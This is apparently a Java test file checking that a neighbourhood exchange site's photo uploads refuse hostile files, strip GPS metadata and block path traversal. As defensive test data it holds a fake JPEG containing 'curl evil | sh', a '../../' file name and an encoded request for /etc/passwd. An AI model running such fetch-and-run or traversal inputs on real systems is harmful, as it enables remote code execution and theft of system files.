package org.voisinage.exchange;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.context.annotation.Import;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.ResultActions;
import org.voisinage.common.Photos;
import org.voisinage.common.PhotosTests;
import org.voisinage.common.UploadProperties;
import org.voisinage.support.TestData;

/** Photos of listings: hostile files refused with a message, real ones stored without metadata and served cached. */
@SpringBootTest
@AutoConfigureMockMvc
@Import(TestData.class)
class ListingPhotoTests {

    @Autowired MockMvc mvc;
    @Autowired TestData data;
    @Autowired JdbcTemplate jdbc;
    @Autowired UploadProperties uploads;

    ExchangeFixtures f;
    String title;

    @BeforeEach
    void neighbourhoods() {
        f = ExchangeFixtures.create(data, jdbc);
        title = TestData.unique("Table");
    }

    ResultActions publish(MockMultipartFile... photos) throws Exception {
        var request = multipart("/echanges/nouvelle");
        for (MockMultipartFile photo : photos) {
            request.file(photo);
        }
        return mvc.perform(request.with(user(data.user(f.homeResident()))).with(csrf())
                .param("direction", "OFFER").param("kind", "GIVE").param("category", "HOUSEHOLD")
                .param("title", title).param("description", "Une table en chêne"));
    }

    List<String> stored() {
        return jdbc.queryForList("""
                select p.file_name from listing_photo p join listing l on l.id = p.listing_id where l.title = ?
                order by p.position""", String.class, title);
    }

    @Test
    void aScriptRenamedJpgIsRefusedWithAMessageAndNothingIsPublished() throws Exception {
        publish(new MockMultipartFile("photos", "vacances.jpg", "image/jpeg",
                "#!/bin/sh\ncurl evil | sh\n".getBytes(StandardCharsets.UTF_8)))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("n’est pas une image JPEG, PNG ou WebP lisible")))
                .andExpect(content().string(containsString(title)));
        assertThat(jdbc.queryForObject("select count(*) from listing where title = ?", Integer.class, title)).isZero();
    }

    @Test
    void aPngAnnouncing20000PixelsIsRefusedFromItsHeader() throws Exception {
        publish(new MockMultipartFile("photos", "huge.png", "image/png", PhotosTests.pngHeader(20_000, 100)))
                .andExpect(status().isOk())
                .andExpect(content().string(containsString("8 000 pixels")));
    }

    /**
     * The photo storage (a shared volume) cannot keep the file: full, read-only or gone. As root ignores permissions,
     * a file stands where the directory should be for the length of the test.
     */
    @Test
    void aPhotoTheStorageCannotKeepIsRefusedOnTheFormWithEverythingTypedKept() throws Exception {
        Path storage = uploads.directory();
        Path aside = storage.resolveSibling(storage.getFileName() + "-aside-" + TestData.unique("x"));
        Files.createDirectories(storage);
        Files.move(storage, aside);
        Files.writeString(storage, "not a directory");
        try {
            publish(new MockMultipartFile("photos", "a.png", "image/png", PhotosTests.image("png", 40, 30)))
                    .andExpect(status().isOk())
                    .andExpect(content().string(containsString("La photo n’a pas pu être enregistrée de notre côté")))
                    .andExpect(content().string(containsString(title)))
                    .andExpect(content().string(containsString("Une table en ch")));
        } finally {
            Files.delete(storage);
            Files.move(aside, storage);
        }
        assertThat(jdbc.queryForObject("select count(*) from listing where title = ?", Integer.class, title)).isZero();
    }

    @Test
    void fivePhotosAreTooMany() throws Exception {
        byte[] png = PhotosTests.image("png", 40, 30);
        MockMultipartFile photo = new MockMultipartFile("photos", "a.png", "image/png", png);
        publish(photo, photo, photo, photo, photo).andExpect(status().isOk())
                .andExpect(content().string(containsString("Quatre photos au plus")));
    }

    @Test
    void aPhoneJpegLosesItsGpsAndIsServedUnderARandomNameWithCacheHeaders() throws Exception {
        byte[] withGps = PhotosTests.withExifGps(PhotosTests.image("jpeg", 800, 600));
        publish(new MockMultipartFile("photos", "../../IMG_0042.jpg", "image/jpeg", withGps),
                new MockMultipartFile("photos", "b.png", "image/png", PhotosTests.image("png", 300, 300)))
                .andExpect(status().is3xxRedirection());
        List<String> names = stored();
        long neighbour = f.resident(f.home());
        assertThat(names).hasSize(2).allMatch(n -> n.matches("[0-9a-f]{32}\\.jpg"));

        byte[] served = mvc.perform(get("/echanges/photos/" + names.get(0)).with(user(data.user(neighbour))))
                .andExpect(status().isOk())
                .andExpect(header().string("Content-Type", "image/jpeg"))
                .andExpect(header().string("Cache-Control", containsString("immutable")))
                .andExpect(header().string("Cache-Control", containsString("private")))
                .andExpect(header().string("X-Content-Type-Options", "nosniff"))
                .andReturn().getResponse().getContentAsByteArray();
        assertThat(new String(served, StandardCharsets.ISO_8859_1)).doesNotContain("GPS");
        assertThat(PhotosTests.markers(served)).doesNotContain(0xE1);
        mvc.perform(get("/echanges/photos/" + Photos.thumbnailName(names.get(0))).with(user(data.user(neighbour))))
                .andExpect(status().isOk());
        // a resident of the neighbourhood 2 km away does not see a listing kept to its own neighbourhood, nor its photos
        mvc.perform(get("/echanges/photos/" + names.get(0)).with(user(data.user(f.nearResident()))))
                .andExpect(status().isNotFound());
        mvc.perform(get("/echanges/photos/..%2F..%2Fetc%2Fpasswd").with(user(data.user(neighbour))))
                .andExpect(status().is4xxClientError());
        long id = jdbc.queryForObject("select id from listing where title = ?", Long.class, title);
        mvc.perform(get("/echanges/" + id).with(user(data.user(neighbour))))
                .andExpect(content().string(containsString("/echanges/photos/" + Photos.thumbnailName(names.get(1)))));
    }
}
